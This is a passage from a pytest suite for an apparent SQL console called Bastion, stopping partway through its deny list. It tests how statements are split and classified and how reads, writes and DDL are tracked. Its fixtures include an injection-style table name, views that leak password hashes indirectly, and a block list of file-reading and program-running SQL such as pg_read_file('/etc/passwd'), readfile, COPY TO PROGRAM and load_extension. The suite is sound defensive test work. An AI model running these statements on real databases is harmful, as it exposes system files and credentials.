"""The console's statement analysis: splitting, kinds, reads, writes, DDL, and what nobody may run (T21, T22, T31)."""

from __future__ import annotations

import logging

import pytest

from bastion.console.analysis import (
    AnalysisError,
    Ddl,
    Kind,
    Statement,
    TableEntry,
    Write,
    analyse,
    line_and_column,
    split_script,
)
from bastion.console.refs import TableRef

USERS = TableRef(None, "users")
ORDERS = TableRef(None, "orders")
LEADS = TableRef("sales", "leads")
USER_NAMES = TableRef(None, "user_names")
USER_HASHES = TableRef(None, "user_hashes")
NAMED_HASHES = TableRef(None, "named_hashes")
ALL_USER_COLUMNS = frozenset({"id", "name", "email", "password_hash"})
ALL_ORDER_COLUMNS = frozenset({"id", "user_id", "total", "note"})

TABLES: dict[tuple[str | None, str], tuple[str, ...]] = {
    (None, "users"): ("id", "name", "email", "password_hash"),
    (None, "orders"): ("id", "user_id", "total", "note"),
    ("sales", "leads"): ("id", "owner"),
    (None, 'x"; DROP TABLE t; --'): ("a b", "select", "🔑"),
    (None, "😀"): ("🔑",),
    (None, "a`b"): ("c]d",),
    (None, "Mixed"): ("Col",),
}
VIEWS: dict[tuple[str | None, str], tuple[tuple[str, ...], str]] = {
    (None, "user_names"): (("id", "name"), "SELECT id, name FROM users"),
    (None, "user_hashes"): (("id", "hash"), "SELECT id, password_hash AS hash FROM users"),
    (None, "named_hashes"): (("id", "hash"), "SELECT id, hash FROM user_hashes"),
    (None, "broken"): (("id",), "SELECT id FROM nowhere"),
    (None, "calls_f"): (("id",), "SELECT my_func(id) AS id FROM users"),
    (None, "xml_dump"): (("id",), "SELECT query_to_xml('SELECT password_hash FROM users', true, true, '') AS id"),
    (None, "ordered_names"): (("hash",), "SELECT name AS password_hash FROM users ORDER BY password_hash || ''"),
    **{(None, f"chain{i}"): (("id",), f"SELECT id FROM chain{i + 1}") for i in range(1, 10)},
    (None, "chain10"): (("id",), "SELECT id FROM users"),
}


class DictCatalog:
    """The analysis's catalogue over TABLES and VIEWS; SQLite and MySQL names match without regard to case."""

    def __init__(self, dialect: str) -> None:
        self.dialect = dialect
        self.lookups: list[tuple[str | None, str]] = []

    def _same(self, a: str | None, b: str | None) -> bool:
        if self.dialect == "postgresql" or a is None or b is None:
            return a == b
        return a.casefold() == b.casefold()

    def lookup(self, schema: str | None, name: str) -> TableEntry | None:
        self.lookups.append((schema, name))
        for (table_schema, table_name), columns in TABLES.items():
            if self._same(schema, table_schema) and self._same(name, table_name):
                return TableEntry(TableRef(table_schema, table_name), columns)
        for (view_schema, view_name), (columns, sql) in VIEWS.items():
            if self._same(schema, view_schema) and self._same(name, view_name):
                return TableEntry(TableRef(view_schema, view_name), columns, sql)
        return None


def statements(sql: str, dialect: str = "postgresql") -> list[Statement]:
    return analyse(sql, DictCatalog(dialect))


def one(sql: str, dialect: str = "postgresql") -> Statement:
    (statement,) = statements(sql, dialect)
    return statement


# --- Splitting --------------------------------------------------------------------------------

@pytest.mark.parametrize(("dialect", "script", "texts"), [
    ("postgresql", "SELECT 1; SELECT 2", ["SELECT 1", "SELECT 2"]),
    ("postgresql", "SELECT 'a;b'; SELECT 2", ["SELECT 'a;b'", "SELECT 2"]),
    ("postgresql", "SELECT '100%'; SELECT ':name'", ["SELECT '100%'", "SELECT ':name'"]),
    ("postgresql", 'SELECT 1 AS "x"";y"; SELECT 2', ['SELECT 1 AS "x"";y"', "SELECT 2"]),
    ("postgresql", "SELECT 1 -- not; a split\n; SELECT 2", ["SELECT 1 -- not; a split", "SELECT 2"]),
    ("postgresql", "SELECT /* ; */ 1; SELECT 2", ["SELECT /* ; */ 1", "SELECT 2"]),
    ("postgresql", "SELECT $$a;b$$; SELECT $tag$ ; $$ ; $tag$", ["SELECT $$a;b$$", "SELECT $tag$ ; $$ ; $tag$"]),
    ("postgresql", ";; SELECT 1;;; -- a comment alone\n; /* another */ ;", ["SELECT 1"]),
    ("postgresql", "-- leading comment\nSELECT 1", ["SELECT 1"]),
    ("sqlite", "SELECT [a;b] FROM t; SELECT 2", ["SELECT [a;b] FROM t", "SELECT 2"]),
    ("mysql", "SELECT `a;b` FROM t; SELECT 'x\\';y'; SELECT 1 # ;\n; SELECT 2",
     ["SELECT `a;b` FROM t", "SELECT 'x\\';y'", "SELECT 1 # ;", "SELECT 2"]),
    ("sqlite", "CREATE TRIGGER tr AFTER INSERT ON users BEGIN UPDATE orders SET total = CASE WHEN 1 THEN 2 END; "
               "DELETE FROM orders; END; SELECT 1",
     ["CREATE TRIGGER tr AFTER INSERT ON users BEGIN UPDATE orders SET total = CASE WHEN 1 THEN 2 END; "
      "DELETE FROM orders; END", "SELECT 1"]),
    ("mysql", "CREATE DEFINER = 'me'@'%' PROCEDURE p() BEGIN DECLARE x INT; IF x THEN SET x = 1; END IF; "
              "l: LOOP LEAVE l; END LOOP; CASE x WHEN 1 THEN SELECT 1; END CASE; END; SELECT 2",
     ["CREATE DEFINER = 'me'@'%' PROCEDURE p() BEGIN DECLARE x INT; IF x THEN SET x = 1; END IF; "
      "l: LOOP LEAVE l; END LOOP; CASE x WHEN 1 THEN SELECT 1; END CASE; END", "SELECT 2"]),
    ("postgresql", "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END; SELECT 2",
     ["CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END", "SELECT 2"]),
    ("mysql", "CREATE TABLE event (id int); SELECT 2", ["CREATE TABLE event (id int)", "SELECT 2"]),
])
def test_split_script_splits_only_at_separating_semicolons(dialect, script, texts):
    pieces = split_script(script, dialect)
    assert [text for _, text in pieces] == texts
    assert all(script[start:start + len(text)] == text for start, text in pieces)


def test_split_script_gives_offsets_past_whitespace_and_comments():
    script = "  \n-- first\n  SELECT 1 ;\n\t/* second */ SELECT\n 2"
    assert split_script(script, "postgresql") == [(14, "SELECT 1"), (39, "SELECT\n 2")]


@pytest.mark.parametrize(("dialect", "script", "where"), [
    ("postgresql", "SELECT 1;\nSELECT 'abc", "line 2, column 8"),
    ("postgresql", 'SELECT "abc', "line 1, column 8"),
    ("postgresql", "SELECT 1; SELECT $$abc", "line 1, column 18"),
    ("mysql", "SELECT `abc", "line 1, column 8"),
])
def test_unsplittable_script_raises_with_its_position(dialect, script, where):
    with pytest.raises(AnalysisError, match=where):
        split_script(script, dialect)
    with pytest.raises(AnalysisError, match=where):
        analyse(script, DictCatalog(dialect))


def test_line_and_column_are_one_based():
    script = "SELECT 1;\nSELECT 2;\n  x"
    assert line_and_column(script, 0) == (1, 1)
    assert line_and_column(script, 10) == (2, 1)
    assert line_and_column(script, script.index("x")) == (3, 3)


def test_statements_are_numbered_and_keep_their_text_and_start():
    script = "SELECT 1;\n  SELECT name FROM users"
    first, second = statements(script)
    assert (first.index, first.text, first.start) == (1, "SELECT 1", 0)
    assert (second.index, second.text, second.start) == (2, "SELECT name FROM users", 12)


# --- Kinds ------------------------------------------------------------------------------------

@pytest.mark.parametrize(("dialect", "sql", "kind"), [
    ("postgresql", "SELECT name FROM users", Kind.READ),
    ("postgresql", "SELECT id FROM users UNION SELECT id FROM orders", Kind.READ),
    ("postgresql", "VALUES (1), (2)", Kind.READ),
    ("postgresql", "WITH x AS (SELECT id FROM users) SELECT id FROM x", Kind.READ),
    ("postgresql", "SELECT id FROM users FOR UPDATE", Kind.READ),
    ("postgresql", "TABLE users", Kind.READ),
    ("postgresql", "INSERT INTO users (name) VALUES ('a')", Kind.WRITE),
    ("postgresql", "UPDATE users SET name = 'a'", Kind.WRITE),
    ("postgresql", "DELETE FROM users", Kind.WRITE),
    ("postgresql", "MERGE INTO users u USING orders o ON u.id = o.user_id WHEN MATCHED THEN DELETE", Kind.WRITE),
    ("postgresql", "WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x", Kind.WRITE),
    ("mysql", "REPLACE INTO users (id) VALUES (1)", Kind.WRITE),
    ("sqlite", "INSERT OR REPLACE INTO users (id) VALUES (1)", Kind.WRITE),
    ("postgresql", "CREATE TABLE n (a int)", Kind.DDL),
    ("postgresql", "CREATE VIEW v AS SELECT name FROM users", Kind.DDL),
    ("postgresql", "CREATE UNIQUE INDEX i ON users (email)", Kind.DDL),
    ("postgresql", "ALTER TABLE users ADD COLUMN age int", Kind.DDL),
    ("postgresql", "DROP TABLE orders", Kind.DDL),
    ("postgresql", "DROP VIEW user_names", Kind.DDL),
    ("postgresql", "TRUNCATE orders", Kind.DDL),
    ("postgresql", "COMMENT ON TABLE users IS 'people'", Kind.DDL),
    ("postgresql", "SELECT name INTO copy_of_users FROM users", Kind.DDL),
    ("mysql", "RENAME TABLE orders TO purchases", Kind.DDL),
    ("postgresql", "GRANT SELECT ON users TO bob", Kind.OTHER),
    ("postgresql", "CREATE ROLE bob", Kind.OTHER),
    ("postgresql", "CREATE SCHEMA reports", Kind.OTHER),
    ("postgresql", "ANALYZE users", Kind.OTHER),
    ("postgresql", "REINDEX TABLE users", Kind.OTHER),
    ("postgresql", "LOCK TABLE users", Kind.OTHER),
    ("postgresql", "CALL p()", Kind.OTHER),
    ("postgresql", "DO $$ BEGIN PERFORM 1; END $$", Kind.OTHER),
    ("postgresql", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", Kind.OTHER),
    ("postgresql", "CREATE EXTENSION hstore", Kind.OTHER),
    ("sqlite", "PRAGMA table_info(users)", Kind.OTHER),
    ("sqlite", "CREATE TRIGGER tr AFTER INSERT ON users BEGIN DELETE FROM orders; END", Kind.OTHER),
    ("mysql", "SHOW TABLES", Kind.OTHER),
])
def test_kind(dialect, sql, kind):
    assert one(sql, dialect).kind == kind


@pytest.mark.parametrize(("sql", "returns_rows"), [
    ("SELECT name FROM users", True),
    ("VALUES (1)", True),
    ("WITH x AS (DELETE FROM users RETURNING id) SELECT id FROM x", True),
    ("DELETE FROM users RETURNING id", True),
    ("DELETE FROM users", False),
    ("INSERT INTO orders SELECT * FROM orders", False),
    ("SELECT name INTO copy_of_users FROM users", False),
    ("CREATE TABLE n (a int)", False),
])
def test_returns_rows(sql, returns_rows):
    assert one(sql).returns_rows is returns_rows


@pytest.mark.parametrize("sql", ["SELECT name INTO @x FROM users LIMIT 1", "SELECT id, name INTO @a, @b FROM users",
                                 "SELECT 1 INTO @x"])
def test_mysql_select_into_variables_returns_no_rows(sql):
    """F11: SELECT ... INTO @var fills variables and returns no rows, so it is not a query to download."""
    assert one(sql, "mysql").returns_rows is False


# --- Reads (T21, T31) -------------------------------------------------------------------------

@pytest.mark.parametrize(("dialect", "sql", "reads"), [
    ("postgresql", "SELECT name FROM users WHERE email = 'x' ORDER BY id",
     {USERS: {"name", "email", "id"}}),
    ("postgresql", "SELECT u.name, o.total FROM users u JOIN orders o ON o.user_id = u.id",
     {USERS: {"name", "id"}, ORDERS: {"total", "user_id"}}),
    ("postgresql", "SELECT count(*) FROM orders", {ORDERS: set()}),
    ("postgresql", "SELECT name FROM users GROUP BY name HAVING max(password_hash) > ''",
     {USERS: {"name", "password_hash"}}),
    ("postgresql", "SELECT sum(total) OVER (PARTITION BY note) FROM orders", {ORDERS: {"total", "note"}}),
    ("postgresql", "SELECT h FROM (SELECT password_hash AS h FROM users) AS s WHERE h > ''",
     {USERS: {"password_hash"}}),
    ("postgresql", "WITH s AS (SELECT password_hash AS h FROM users) SELECT h FROM s", {USERS: {"password_hash"}}),
    ("postgresql", "WITH users AS (SELECT 1 AS password_hash) SELECT password_hash FROM users", {}),
    ("postgresql", "SELECT name FROM users WHERE id IN (SELECT user_id FROM orders WHERE total > 1)",
     {USERS: {"name", "id"}, ORDERS: {"user_id", "total"}}),
    ("postgresql", "SELECT id FROM users WHERE EXISTS (SELECT 1 FROM orders WHERE user_id = users.id "
                   "AND password_hash = note)",
     {USERS: {"id", "password_hash"}, ORDERS: {"user_id", "note"}}),
    ("postgresql", "SELECT (SELECT max(total) FROM orders) FROM users", {ORDERS: {"total"}, USERS: set()}),
    ("postgresql", "SELECT id FROM users UNION SELECT user_id FROM orders", {USERS: {"id"}, ORDERS: {"user_id"}}),
    ("postgresql", "SELECT * FROM users u, LATERAL (SELECT u.password_hash AS h) AS x",
     {USERS: set(ALL_USER_COLUMNS)}),
    ("postgresql", "SELECT name FROM users JOIN orders USING (id)", {USERS: {"name", "id"}, ORDERS: {"id"}}),
    ("postgresql", "SELECT row_to_json(u) FROM users u", {USERS: set(ALL_USER_COLUMNS)}),
    ("postgresql", "SELECT u FROM users u", {USERS: set(ALL_USER_COLUMNS)}),
    ("postgresql", "SELECT json_agg(u.*) FROM users u", {USERS: set(ALL_USER_COLUMNS)}),
    ("postgresql", "SELECT owner FROM sales.leads", {LEADS: {"owner"}}),
    ("postgresql", 'SELECT "Col" FROM "Mixed"', {TableRef(None, "Mixed"): {"Col"}}),
    ("postgresql", "UPDATE users SET name = o.note FROM orders o WHERE o.user_id = users.id RETURNING users.email",
     {USERS: {"id", "email"}, ORDERS: {"note", "user_id"}}),
    ("postgresql", "DELETE FROM orders WHERE total > 5", {ORDERS: {"total"}}),
    ("postgresql", "DELETE FROM orders", {}),
    ("postgresql", "DELETE FROM orders RETURNING *", {ORDERS: set(ALL_ORDER_COLUMNS)}),
    ("postgresql", "INSERT INTO orders (user_id) SELECT id FROM users WHERE email = 'x'", {USERS: {"id", "email"}}),
    ("postgresql", "INSERT INTO users (id, name) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE "
                   "SET name = excluded.name || users.email", {USERS: {"email"}}),
    ("sqlite", "SELECT ID, Name FROM USERS", {USERS: {"id", "name"}}),
    ("sqlite", "SELECT name FROM main.users", {USERS: {"name"}}),
    ("sqlite", "WITH X AS (SELECT 1 AS password_hash) SELECT password_hash FROM x", {}),
    ("mysql", "SELECT NAME FROM Users", {USERS: {"name"}}),
    ("mysql", "UPDATE users u JOIN orders o ON o.user_id = u.id SET u.name = o.note WHERE o.total > 1",
     {USERS: {"id"}, ORDERS: {"user_id", "note", "total"}}),
    ("mysql", "DELETE FROM orders WHERE id > 1 ORDER BY total LIMIT 1", {ORDERS: {"id", "total"}}),
])
def test_T31_every_column_read_is_found(dialect, sql, reads):
    statement = one(sql, dialect)
    assert statement.problem is None
    assert statement.reads == {table: frozenset(columns) for table, columns in reads.items()}


@pytest.mark.parametrize(("sql", "star"), [
    ("SELECT * FROM users", {USERS}),
    ("SELECT u.*, o.total FROM users u JOIN orders o ON o.user_id = u.id", {USERS}),
    ("SELECT * FROM users u JOIN orders o ON o.user_id = u.id", {USERS, ORDERS}),
    ("SELECT * FROM (SELECT * FROM orders) AS s", {ORDERS}),
    ("SELECT row_to_json(u) FROM users u", {USERS}),
    ("SELECT name FROM users", set()),
    ("WITH x AS (SELECT name FROM users) SELECT * FROM x", set()),
    ("DELETE FROM users RETURNING *", {USERS}),
])
def test_T31_select_star_is_recorded_with_every_column(sql, star):
    statement = one(sql)
    assert statement.star == star
    for table in star:
        assert statement.reads[table] == (ALL_USER_COLUMNS if table == USERS else ALL_ORDER_COLUMNS)


def test_T31_hidden_column_read_through_a_view_shows_in_via_views():
    statement = one("SELECT hash FROM user_hashes")
    assert statement.reads == {USER_HASHES: frozenset({"hash"})}
    assert statement.via_views == {USERS: frozenset({"id", "password_hash"})}
    assert statement.problem is None


def test_T31_views_on_views_are_followed_to_their_tables():
    statement = one("SELECT id FROM named_hashes")
    assert statement.via_views == {USER_HASHES: frozenset({"id", "hash"}), USERS: frozenset({"id", "password_hash"})}


def test_T31_star_over_a_view_reads_every_view_column_and_the_definition():
    statement = one("SELECT * FROM user_names")
    assert statement.reads == {USER_NAMES: frozenset({"id", "name"})}
    assert statement.star == {USER_NAMES}
    assert statement.via_views == {USERS: frozenset({"id", "name"})}


def test_T31_views_nested_deeper_than_the_limit_are_a_problem():
    assert one("SELECT id FROM chain3").problem is None
    statement = one("SELECT id FROM chain1")
    assert "more than 8 levels" in statement.problem
    assert not statement.verified


def test_view_whose_definition_cannot_be_analysed_is_a_problem():
    assert one("SELECT id FROM broken").problem == (
        'Bastion cannot analyse the definition of view "broken": Unknown table "nowhere".')


def test_T31_view_created_from_a_hidden_column_reads_it():
    statement = one("CREATE VIEW leak AS SELECT password_hash FROM users")
    assert statement.reads == {USERS: frozenset({"password_hash"})}
    assert statement.ddl == (Ddl("alter", TableRef(None, "leak")),)


# --- Problems ---------------------------------------------------------------------------------

@pytest.mark.parametrize(("dialect", "sql", "problem"), [
    ("postgresql", "SELECT nosuch FROM users", 'Column "nosuch" is not in any table this statement reads.'),
    ("postgresql", "SELECT users.nosuch FROM users", 'Column "nosuch" is not in any table this statement reads.'),
    ("postgresql", "SELECT x.name FROM users", 'Column "name" is not in any table this statement reads.'),
    ("postgresql", "SELECT id FROM users, orders", 'Column "id" is ambiguous'),
    ("postgresql", "SELECT * FROM nowhere", 'Unknown table "nowhere".'),
    ("postgresql", "SELECT * FROM sales.nowhere", 'Unknown table "sales.nowhere".'),
    ("postgresql", "SELECT col FROM mixed", 'Unknown table "mixed".'),
    ("postgresql", "SELECT * FROM otherdb.public.users", "database part"),
    ("postgresql", "SELECT 1 FROM users WHERE ctid = '(0,1)'", 'Column "ctid"'),
    ("postgresql", "WITH t0 AS (SELECT 1 AS secret) SELECT secret FROM users", 'Column "secret"'),
    ("postgresql", "SELECT * FROM my_function(1)", 'function "my_function"'),
    ("postgresql", "UPDATE users SET nosuch = 1", 'Column "nosuch"'),
    ("postgresql", "INSERT INTO users (nosuch) VALUES (1)", 'Column "nosuch"'),
    ("postgresql", "INSERT INTO nowhere VALUES (1)", 'Unknown table "nowhere".'),
    ("postgresql", "INSERT INTO users (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET name = excluded.nosuch",
     'Column "nosuch"'),
    ("postgresql", "EXPLAIN SELECT 1", "Bastion cannot analyse EXPLAIN statements."),
    ("postgresql", "CREATE ROLE bob", "Bastion cannot analyse CREATE ROLE statements."),
    ("postgresql", "CALL p()", "CALL"),
    ("postgresql", "DO $$ BEGIN PERFORM 1; END $$", "DO"),
    ("postgresql", "PREPARE q AS SELECT 1", "PREPARE"),
    ("postgresql", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", "body of a trigger"),
    ("postgresql", "CREATE TRIGGER tr AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION f()", "body of a trigger"),
    ("postgresql", "DROP TABLE users CASCADE", "CASCADE"),
    ("postgresql", "TRUNCATE users CASCADE", "CASCADE"),
    ("postgresql", "DROP INDEX users_email", "DROP INDEX"),
    ("postgresql", "CHECKPOINT", "does not recognise"),
    ("sqlite", "SELECT * FROM temp.users", 'Unknown table "temp.users".'),
    ("sqlite", "CREATE TRIGGER tr AFTER INSERT ON users BEGIN DELETE FROM orders; END", "body of a trigger"),
    ("sqlite", "UPDATE OR REPLACE users SET name = 'x'", "could not parse"),
    ("mysql", "DROP INDEX i", "DROP INDEX"),
])
def test_what_cannot_be_accounted_for_is_a_problem(dialect, sql, problem):
    statement = one(sql, dialect)
    assert problem in statement.problem
    assert not statement.verified


def test_parse_problem_gives_the_position_in_the_whole_script():
    first, second = statements("SELECT 1;\nSELECT name\n  FROM WHERE")
    assert first.verified
    assert second.kind == Kind.OTHER
    assert second.problem == 'Bastion could not parse this statement near "WHERE" (line 3, column 8).'


def test_a_problem_in_one_statement_leaves_the_others_verified():
    results = statements("SELECT nosuch FROM users; SELECT name FROM users")
    assert [s.verified for s in results] == [False, True]


def test_text_of_a_statement_kept_opaque_is_not_logged(caplog):
    with caplog.at_level(logging.DEBUG, logger="sqlglot"):
        statement = one("CREATE USER bob IDENTIFIED BY 'hunter2-secret'", "mysql")
    assert not statement.verified
    assert "hunter2-secret" not in caplog.text


def test_catalogue_lookups_are_made_once_per_name():
    catalog = DictCatalog("postgresql")
    analyse("SELECT name FROM users; SELECT email FROM users; SELECT id FROM users", catalog)
    assert catalog.lookups == [(None, "users")]


# --- Writes (T21) -----------------------------------------------------------------------------

@pytest.mark.parametrize(("dialect", "sql", "writes"), [
    ("postgresql", "INSERT INTO users (name, email) VALUES ('a', 'b')",
     [Write("insert", USERS, frozenset({"name", "email"}))]),
    ("postgresql", "INSERT INTO users VALUES (1, 'a', 'b', 'c')", [Write("insert", USERS, ALL_USER_COLUMNS)]),
    ("postgresql", "INSERT INTO users DEFAULT VALUES", [Write("insert", USERS, ALL_USER_COLUMNS)]),
    ("postgresql", "INSERT INTO users (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET name = excluded.name",
     [Write("insert", USERS, frozenset({"id"})), Write("update", USERS, frozenset({"name"}))]),
    ("postgresql", "INSERT INTO users (id) VALUES (1) ON CONFLICT DO NOTHING",
     [Write("insert", USERS, frozenset({"id"}))]),
    ("sqlite", "INSERT INTO users (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET email = excluded.email",
     [Write("insert", USERS, frozenset({"id"})), Write("update", USERS, frozenset({"email"}))]),
    ("mysql", "INSERT INTO users (id) VALUES (1) AS new ON DUPLICATE KEY UPDATE name = new.name, email = VALUES(email)",
     [Write("insert", USERS, frozenset({"id"})), Write("update", USERS, frozenset({"name", "email"}))]),
    ("mysql", "INSERT users SET name = 'a'", [Write("insert", USERS, frozenset({"name"}))]),
    ("mysql", "REPLACE INTO users (id, name) VALUES (1, 'a')",
     [Write("insert", USERS, frozenset({"id", "name"})), Write("delete", USERS, frozenset())]),
    ("sqlite", "REPLACE INTO users VALUES (1, 'a', 'b', 'c')",
     [Write("insert", USERS, ALL_USER_COLUMNS), Write("delete", USERS, frozenset())]),
    ("sqlite", "INSERT OR REPLACE INTO users (id) VALUES (1)",
     [Write("insert", USERS, frozenset({"id"})), Write("delete", USERS, frozenset())]),
    ("postgresql", "UPDATE users SET name = 'a', (email, password_hash) = ('b', 'c') WHERE id = 1",
     [Write("update", USERS, frozenset({"name", "email", "password_hash"}))]),
    ("mysql", "UPDATE users u JOIN orders o ON o.user_id = u.id SET u.name = o.note, total = 0",
     [Write("update", USERS, frozenset({"name"})), Write("update", ORDERS, frozenset({"total"}))]),
    ("postgresql", "DELETE FROM orders WHERE id = 1", [Write("delete", ORDERS, frozenset())]),
    ("mysql", "DELETE o FROM orders o JOIN users u ON u.id = o.user_id WHERE u.name = 'x'",
     [Write("delete", ORDERS, frozenset())]),
    ("postgresql", "MERGE INTO users u USING orders o ON u.id = o.user_id "
                   "WHEN MATCHED AND o.total > 1 THEN UPDATE SET name = o.note "
                   "WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT (id) VALUES (o.user_id)",
     [Write("update", USERS, frozenset({"name"})), Write("delete", USERS, frozenset()),
      Write("insert", USERS, frozenset({"id"}))]),
    ("postgresql", "WITH d AS (DELETE FROM orders RETURNING user_id) INSERT INTO users (id) SELECT user_id FROM d",
     [Write("delete", ORDERS, frozenset()), Write("insert", USERS, frozenset({"id"}))]),
    ("postgresql", "SELECT name FROM users", []),
])
def test_T21_writes_are_found(dialect, sql, writes):
    statement = one(sql, dialect)
    assert statement.problem is None
    assert list(statement.writes) == writes


def test_T21_data_modifying_cte_makes_a_read_looking_statement_a_write():
    statement = one("WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x")
    assert statement.kind == Kind.WRITE
    assert statement.writes == (Write("delete", USERS, frozenset()),)
    assert statement.reads == {USERS: ALL_USER_COLUMNS}  # RETURNING * hands every column to the SELECT


def test_T21_update_reads_its_set_values_and_conditions_but_not_its_targets():
    statement = one("UPDATE users SET name = email WHERE password_hash = 'x'")
    assert statement.writes == (Write("update", USERS, frozenset({"name"})),)
    assert statement.reads == {USERS: frozenset({"email", "password_hash"})}


# --- DDL (T21) --------------------------------------------------------------------------------

@pytest.mark.parametrize(("dialect", "sql", "ddl", "reads"), [
    ("postgresql", "CREATE TABLE n (a int)", [Ddl("alter", TableRef(None, "n"))], {}),
    ("postgresql", "CREATE TABLE sales.n AS SELECT id, password_hash FROM users",
     [Ddl("alter", TableRef("sales", "n"))], {USERS: {"id", "password_hash"}}),
    ("postgresql", "CREATE TABLE n (a int REFERENCES users (email))", [Ddl("alter", TableRef(None, "n"))],
     {USERS: {"email"}}),
    ("postgresql", "CREATE TABLE n (LIKE users)", [Ddl("alter", TableRef(None, "n"))], {USERS: ALL_USER_COLUMNS}),
    ("mysql", "CREATE TABLE n LIKE users", [Ddl("alter", TableRef(None, "n"))], {USERS: ALL_USER_COLUMNS}),
    ("sqlite", "CREATE TABLE IF NOT EXISTS Users (a int)", [Ddl("alter", USERS)], {}),
    ("sqlite", "CREATE TABLE main.NewThing (a int)", [Ddl("alter", TableRef(None, "NewThing"))], {}),
    ("postgresql", "CREATE OR REPLACE VIEW v AS SELECT name FROM users", [Ddl("alter", TableRef(None, "v"))],
     {USERS: {"name"}}),
    ("postgresql", "CREATE UNIQUE INDEX i ON users (email)", [Ddl("alter", USERS)], {}),
    ("postgresql", "ALTER TABLE users ADD COLUMN age int", [Ddl("alter", USERS)], {}),
    ("postgresql", "ALTER TABLE sales.leads RENAME TO prospects",
     [Ddl("alter", LEADS), Ddl("alter", TableRef("sales", "prospects"))], {}),
    ("sqlite", "ALTER TABLE main.users RENAME TO people", [Ddl("alter", USERS), Ddl("alter", TableRef(None, "people"))],
     {}),
    ("mysql", "RENAME TABLE users TO people, orders TO sales.orders",
     [Ddl("alter", USERS), Ddl("alter", TableRef(None, "people")), Ddl("alter", ORDERS),
      Ddl("alter", TableRef("sales", "orders"))], {}),
    ("postgresql", "DROP TABLE users, orders", [Ddl("drop", USERS), Ddl("drop", ORDERS)], {}),
    ("postgresql", "DROP VIEW user_names", [Ddl("drop", USER_NAMES)], {}),
    ("postgresql", "DROP TABLE IF EXISTS ghost", [Ddl("drop", TableRef(None, "ghost"))], {}),
    ("postgresql", "TRUNCATE orders", [Ddl("drop", ORDERS)], {}),
    ("mysql", "TRUNCATE TABLE orders", [Ddl("drop", ORDERS)], {}),
    ("mysql", "DROP INDEX i ON users", [Ddl("alter", USERS)], {}),
    ("mysql", "ALTER VIEW user_names AS SELECT id, password_hash FROM users", [Ddl("alter", USER_NAMES)],
     {USERS: {"id", "password_hash"}}),
    ("postgresql", "COMMENT ON TABLE users IS 'people'", [Ddl("alter", USERS)], {}),
    ("postgresql", "COMMENT ON COLUMN sales.leads.owner IS 'who'", [Ddl("alter", LEADS)], {}),
    ("postgresql", "SELECT name INTO copy_of_users FROM users", [Ddl("alter", TableRef(None, "copy_of_users"))],
     {USERS: {"name"}}),
])
def test_T21_ddl_is_found(dialect, sql, ddl, reads):
    statement = one(sql, dialect)
    assert statement.problem is None
    assert statement.kind == Kind.DDL
    assert list(statement.ddl) == ddl
    assert statement.reads == {table: frozenset(columns) for table, columns in reads.items()}


@pytest.mark.parametrize("sql", ["DROP TABLE ghost", "ALTER TABLE ghost ADD COLUMN a int", "TRUNCATE ghost",
                                 "CREATE INDEX i ON ghost (a)", "COMMENT ON TABLE ghost IS 'x'"])
def test_ddl_on_a_missing_table_is_a_problem(sql):
    assert one(sql).problem == 'Unknown table "ghost".'


# --- What nobody may run (T21, T22) -----------------------------------------------------------

FORBIDDEN = [
    # SQLite: files and extensions (T22)
    ("sqlite", "ATTACH '/tmp/x.db' AS x", "ATTACH"),
    ("sqlite", "ATTACH DATABASE '/tmp/x.db' AS x", "ATTACH"),
    ("sqlite", "DETACH x", "DETACH"),
    ("sqlite", "VACUUM", "VACUUM"),
    ("sqlite", "VACUUM INTO '/tmp/y'", "VACUUM"),
    ("sqlite", "SELECT load_extension('x')", "load_extension()"),
    ("sqlite", "SELECT LOAD_EXTENSION('x', 'entry')", "LOAD_EXTENSION()"),
    ("sqlite", "SELECT readfile('/etc/passwd')", "readfile()"),
    ("sqlite", "SELECT writefile('/tmp/x', 'y')", "writefile()"),
    ("sqlite", "SELECT fts3_tokenizer('x')", "fts3_tokenizer()"),
    ("sqlite", "SELECT edit('x')", "edit()"),
    ("sqlite", "SELECT name FROM fsdir('/')", "fsdir()"),
    ("sqlite", "SELECT name FROM users WHERE id = (SELECT length(readfile('/x')))", "readfile()"),
    ("sqlite", "PRAGMA writable_schema=1", "PRAGMA"),
    ("sqlite", "PRAGMA main.writable_schema = ON", "PRAGMA"),
    ("sqlite", "PRAGMA journal_mode(OFF)", "PRAGMA"),
    ("sqlite", "CREATE TRIGGER tr AFTER INSERT ON users BEGIN SELECT writefile('/x', 'y'); END", "writefile()"),
    # PostgreSQL: files, programs, other sessions, configuration
    ("postgresql", "COPY users TO PROGRAM 'x'", "COPY"),
    ("postgresql", "COPY users FROM '/file'", "COPY"),
    ("postgresql", "COPY (SELECT 1) TO STDOUT", "COPY"),
    ("postgresql", "SELECT pg_read_file('/etc/passwd')", "pg_read_file()"),
    ("postgresql", "SELECT pg_catalog.pg_read_file('/etc/passwd')", "pg_read_file()"),
    ("postgresql", 'SELECT "pg_read_file"(\'/etc/passwd\')', "pg_read_file()"),
    ("postgresql", "SELECT PG_READ_BINARY_FILE('/x')", "PG_READ_BINARY_FILE()"),
    ("postgresql", "SELECT * FROM pg_ls_dir('/')", "pg_ls_dir()"),
    ("postgresql", "SELECT pg_stat_file('/x')", "pg_stat_file()"),
    ("postgresql", "SELECT pg_ls_waldir()", "pg_ls_waldir()"),
    ("postgresql", "SELECT lo_import('/etc/passwd')", "lo_import()"),
    ("postgresql", "SELECT lo_from_bytea(0, 'x')", "lo_from_bytea()"),
    ("postgresql", "SELECT lo_unlink(1)", "lo_unlink()"),
    ("postgresql", "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", "dblink()"),
    ("postgresql", "SELECT dblink_exec('x', 'y')", "dblink_exec()"),
    ("postgresql", "SELECT pg_file_write('/x', 'y', false)", "pg_file_write()"),
    ("postgresql", "SELECT pg_terminate_backend(1)", "pg_terminate_backend()"),
